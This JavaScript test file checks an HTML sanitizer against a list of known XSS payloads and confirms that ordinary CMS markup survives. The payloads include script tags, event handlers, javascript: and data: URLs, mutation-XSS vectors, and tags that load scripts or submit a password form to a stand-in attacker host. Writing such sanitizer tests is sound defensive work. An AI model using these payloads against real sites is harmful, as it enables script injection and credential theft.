import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parse } from "node-html-parser";
import { htmlToText, sanitizeHtml } from "../../src/sources/index.js";

/** Payloads from the research notes (rehype-sanitize README, DOMPurify mXSS, markdown-it xss). */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAva\tscript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<svg><a xlink:href="data:text/html,<script>alert(1)</script>"><text>x</text></a></svg>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css";</style>',
  "<template><script>alert(1)</script></template>",
  '<details open ontoggle="alert(1)">x</details>',
  '<button formaction="javascript:alert(1)">x</button>',
];

describe("sanitizeHtml", () => {
  for (const payload of PAYLOADS) {
    it(`neutralizes ${payload}`, () => {
      const clean = sanitizeHtml(payload);
      const root = parse(clean);
      for (const element of root.querySelectorAll("*")) {
        assert.ok(
          ![
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "style",
            "base",
            "meta",
            "link",
            "svg",
            "math",
            "template",
          ].includes(element.tagName.toLowerCase()),
          `<${element.tagName}> kept in ${clean}`,
        );
        for (const [name, value] of Object.entries(element.attributes)) {
          assert.ok(!/^on/i.test(name), `handler ${name} kept in ${clean}`);
          assert.ok(
            !["style", "srcdoc", "formaction"].includes(name.toLowerCase()),
            `${name} kept in ${clean}`,
          );
          assert.doesNotMatch(value.replace(/\s/g, ""), /^(javascript|vbscript|data):/i, clean);
        }
      }
    });
  }

  it("keeps ordinary CMS markup", () => {
    const html =
      '<figure class="wp-block-image"><img src="https://cms.example/a.jpg" alt="A" width="10" height="5" srcset="https://cms.example/a-2x.jpg 2x"><figcaption>Cap</figcaption></figure>' +
      '<h2 id="intro">Intro</h2><p>Text with <a href="https://example.com/" rel="noopener">a link</a>, <em>em</em>, <code>code</code>.</p>' +
      "<ul><li>one</li></ul><blockquote><p>quote</p></blockquote><table><tbody><tr><td>1</td></tr></tbody></table>";
    assert.equal(
      sanitizeHtml(html),
      '<figure class="wp-block-image"><img src="https://cms.example/a.jpg" alt="A" width="10" height="5" srcset="https://cms.example/a-2x.jpg 2x"><figcaption>Cap</figcaption></figure>' +
        '<h2 id="user-content-intro">Intro</h2><p>Text with <a href="https://example.com/" rel="noopener">a link</a>, <em>em</em>, <code>code</code>.</p>' +
        "<ul><li>one</li></ul><blockquote><p>quote</p></blockquote><table><tbody><tr><td>1</td></tr></tbody></table>",
    );
  });

  it("keeps iframes over https only when the source allows them", () => {
    const embed =
      '<iframe src="https://video.example/embed/1" title="Video" onload="x()"></iframe>';
    assert.equal(sanitizeHtml(embed), "");
    assert.equal(
      sanitizeHtml(embed, { iframes: true }),
      '<iframe src="https://video.example/embed/1" title="Video"></iframe>',
    );
    assert.equal(
      sanitizeHtml('<iframe src="javascript:alert(1)"></iframe>', { iframes: true }),
      "",
    );
  });

  it("lets a source allow more tags and attributes", () => {
    const video = '<video controls src="https://cms.example/v.mp4" onplay="x()"></video>';
    assert.equal(sanitizeHtml(video), "");
    assert.equal(
      sanitizeHtml(video, { tags: ["video"], attributes: { video: ["controls", "src"] } }),
      '<video controls src="https://cms.example/v.mp4"></video>',
    );
  });

  it("turns HTML titles into text", () => {
    assert.equal(
      htmlToText("Grace&#8217;s guide &amp; notes <script>x</script>"),
      "Grace’s guide & notes",
    );
  });
});
